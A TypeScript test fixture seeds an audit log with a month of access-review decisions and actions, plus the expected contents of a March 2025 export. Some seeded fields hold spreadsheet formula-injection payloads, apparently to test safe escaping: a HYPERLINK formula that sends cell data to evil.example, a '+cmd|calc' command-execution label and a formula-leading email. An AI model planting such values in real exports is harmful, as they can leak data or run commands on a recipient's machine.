import { appendAudit, type AuditActor, type AuditEntry } from '../../src/audit/append.js';
import type { Evidence } from '../../src/domain/evidence.js';
import type { Executor } from '../../src/db/types.js';
import { makeEvidence } from './fixtures.js';

/**
 * A month of decisions the way review and actions write them, with the noise around
 * them (other actions, retries, decisions outside the period), and what an export of
 * March 2025 must contain.
 */

export const MARCH = { since: new Date('2025-03-01T00:00:00Z'), until: new Date('2025-04-01T00:00:00Z') };
/** When exports and reports say they were generated: any time after the scenario. */
export const GENERATED_AT = new Date('2026-05-01T00:00:00Z');

export interface ExpectedDecision {
  seq: number;
  hash: string;
  at: Date;
  reviewItemId: string;
  decision: string;
  evidence: Evidence;
  actor: AuditActor;
  reason: string | null;
  keepUntil: string | null;
  action: { outcome: string; at: Date; error: string | null } | null;
}

export interface Scenario {
  /** The decisions in March, in seq order. */
  march: ExpectedDecision[];
  all: ExpectedDecision[];
  rows: number;
}

const at = (iso: string) => new Date(iso);
const ada: AuditActor = { type: 'slack_user', slackId: 'U0ADA', anthropicId: 'user_01', label: 'Ada' };
const bob: AuditActor = { type: 'slack_user', slackId: 'U0BOB', anthropicId: 'user_02', label: null };
const timeouts: AuditActor = { type: 'system', job: 'review-timeouts' };

export const EVIL_REASON = '=HYPERLINK("http://evil.example/?x="&A1,"click"), then\r\nsecond line, "quoted"';

export async function seedScenario(db: Executor): Promise<Scenario> {
  const all: ExpectedDecision[] = [];
  let rows = 0;
  const append = async (e: AuditEntry) => {
    rows++;
    return appendAudit(db, e);
  };
  const decide = async (
    reviewItemId: string,
    when: string,
    actor: AuditActor,
    decision: string,
    evidence: Evidence,
    extra: { reason?: string; keepUntil?: string } = {},
  ) => {
    const r = await append({
      actor,
      action: 'review.decided',
      subject: { type: evidence.subject.type, id: evidence.subject.id },
      reviewItemId,
      outcome: decision,
      evidence: evidence as unknown as Record<string, unknown>,
      details: { decision, ...extra },
      policyVersion: 'pol-7',
      at: at(when),
    });
    const d: ExpectedDecision = {
      seq: r.seq,
      hash: r.hash,
      at: at(when),
      reviewItemId,
      decision,
      evidence,
      actor,
      reason: extra.reason ?? null,
      keepUntil: extra.keepUntil ?? null,
      action: null,
    };
    all.push(d);
    return d;
  };
  const act = async (d: ExpectedDecision, when: string, outcome: string, attempt: number, error?: string) => {
    await append({
      actor: { type: 'system', job: 'outbox' },
      action: 'action.executed',
      subject: { type: d.evidence.subject.type, id: d.evidence.subject.id },
      reviewItemId: d.reviewItemId,
      outcome,
      details: { kind: 'deactivate_key', attempt, ...(error ? { error } : {}) },
      at: at(when),
    });
    d.action = { outcome, at: at(when), error: error ?? null };
  };
  const noise = (when: string, action: string, reviewItemId: string | null = null) =>
    append({ actor: { type: 'system', job: 'sync' }, action, outcome: 'succeeded', reviewItemId, at: at(when) });

  const key = (id: string, label: string, over: Partial<Evidence> = {}) =>
    makeEvidence({ subject: { type: 'api_key', id, label }, ...over });
  const seat = (email: string) =>
    makeEvidence({
      kind: 'dormant_seat',
      rule: 'Member with no activity for 30 days or more',
      subject: { type: 'user', id: `user_${email}`, label: email },
      access: { kind: 'seat', role: 'user' },
      owner: { userId: `user_${email}`, email, slackId: 'U0BOB', via: 'holder' },
      usage: null,
      lastActivity: null,
      counts: { d7: 0, d30: 0, d90: 0 },
      weekly: [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    });

  // February: outside the period.
  const feb = await decide('ri_feb', '2025-02-27T12:00:00Z', ada, 'keep', key('apikey_feb', 'old-key'), {
    reason: 'still needed',
    keepUntil: '2025-05-28T00:00:00.000Z',
  });
  await act(feb, '2025-02-27T12:01:00Z', 'succeeded', 1);
  await noise('2025-02-28T00:00:00Z', 'sync.completed');

  // March.
  await decide('ri_keep', '2025-03-02T09:30:00Z', ada, 'keep', key('apikey_ci', 'ci-deploy'), {
    reason: 'Deploys production nightly, owner confirmed',
    keepUntil: '2025-06-01T00:00:00.000Z',
  });
  await noise('2025-03-02T10:00:00Z', 'review.reminded', 'ri_revoke');
  const revoke = await decide(
    'ri_revoke',
    '2025-03-03T14:00:00Z',
    bob,
    'revoke',
    key('apikey_old', '@old-laptop', {
      counts: { d7: 0, d30: 0, d90: 0 },
      usage: { requests30: 0, tokens30: 0, requests90: 0, tokens90: 0 },
      lastActivity: null,
    }),
  );
  await act(revoke, '2025-03-03T14:00:05Z', 'failed', 1, 'HTTP 503 from the Admin API');
  await noise('2025-03-03T14:00:06Z', 'action.executed', 'ri_other');
  await act(revoke, '2025-03-03T14:01:05Z', 'succeeded', 2);
  await decide('ri_notmine', '2025-03-10T08:00:00Z', ada, 'not_mine', key('apikey_shared', 'shared, "team" key'));
  await decide(
    'ri_evil',
    '2025-03-11T08:00:00Z',
    bob,
    'keep',
    key('apikey_evil', '+cmd|calc', {
      owner: { userId: null, email: '-2+3@example.com', slackId: null, via: 'claim' },
    }),
    {
      reason: EVIL_REASON,
      keepUntil: '2025-04-10T00:00:00.000Z',
    },
  );
  const timeout = await decide(
    'ri_timeout',
    '2025-03-20T00:00:00Z',
    timeouts,
    'timeout_revoke',
    seat('carol@example.com'),
  );
  await act(timeout, '2025-03-20T00:00:02Z', 'dry_run', 1);
  // One item decided twice: handed on, then revoked by the new owner. Each decision gets its own action (none, then one).
  await decide('ri_twice', '2025-03-25T10:00:00Z', ada, 'not_mine', key('apikey_twice', 'analytics'));
  const second = await decide('ri_twice', '2025-03-26T10:00:00Z', bob, 'revoke', key('apikey_twice', 'analytics'));
  await act(second, '2025-03-26T10:00:03Z', 'succeeded', 1);
  await decide(
    'ri_ack',
    '2025-03-31T23:59:59.999Z',
    ada,
    'acknowledge',
    key('apikey_spike', 'batch-jobs', {
      kind: 'usage_spike',
      anomaly: { day: '2025-03-30', requests: 9000, baseline: 300 },
    }),
  );

  // April: outside the period (the end is exclusive).
  await decide('ri_april', '2025-04-01T00:00:00Z', ada, 'keep', key('apikey_apr', 'april'), { reason: 'april' });

  const march = all.filter((d) => d.at >= MARCH.since && d.at < MARCH.until);
  return { march, all, rows };
}
